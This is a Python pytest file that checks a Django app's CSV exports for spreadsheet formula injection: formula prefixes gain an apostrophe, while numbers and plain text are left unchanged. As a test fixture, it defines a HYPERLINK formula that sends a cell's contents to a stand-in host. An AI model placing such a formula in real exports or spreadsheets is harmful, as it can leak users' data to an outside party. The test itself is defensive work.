"""Issue 9: a text cell a spreadsheet would run as a formula is neutralised in every CSV export;
numbers (negative balances) stay numbers; Parquet keeps the data as it is."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache

from twoway.businesses.models import Business
from twoway.core.csvsafe import csv_safe
from twoway.identity.models import User

from .test_dashboard import Q, trade  # noqa: F401

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_prefixes_get_an_apostrophe(prefix):
    assert csv_safe(prefix + "1+1") == "'" + prefix + "1+1"


def test_numbers_and_plain_text_are_left_alone():
    from decimal import Decimal

    assert csv_safe(Decimal("-30.00")) == Decimal("-30.00")
    assert csv_safe(-5) == -5
    assert csv_safe("Badger State Honey LLC") == "Badger State Honey LLC"


def test_a_business_named_like_a_formula_is_exported_as_text(client, trade):  # noqa: F811
    cache.clear()
    Business.objects.filter(legal_name="Badger State Honey LLC").update(legal_name=HOSTILE)
    response = client.get(f"/dashboard/data/businesses.csv?{Q}")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [r[1] for r in rows[1:]]
    assert "'" + HOSTILE in names
    assert HOSTILE not in names
    states = list(
        csv.reader(io.StringIO(client.get(f"/dashboard/data/states.csv?{Q}").content.decode()))
    )
    assert ["CA", "California", "0.00", "30.00", "-30.00", "False"] in states


def test_the_regulator_ledger_export_is_neutralised(client, trade, monkeypatch):  # noqa: F811
    from twoway.ledger import selectors as ledger

    original = ledger.entries_export_rows

    def hostile_rows(flt):
        for row in original(flt):
            yield [HOSTILE if i == 1 else value for i, value in enumerate(row)]

    monkeypatch.setattr(ledger, "entries_export_rows", hostile_rows)
    client.force_login(User.objects.create(username="reg", role="regulator"))
    response = client.get("/dashboard/ledger/export.csv?kind=reversal")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1] == "'" + HOSTILE
    assert rows[1][10] == "-19.99"  # a number, not neutralised
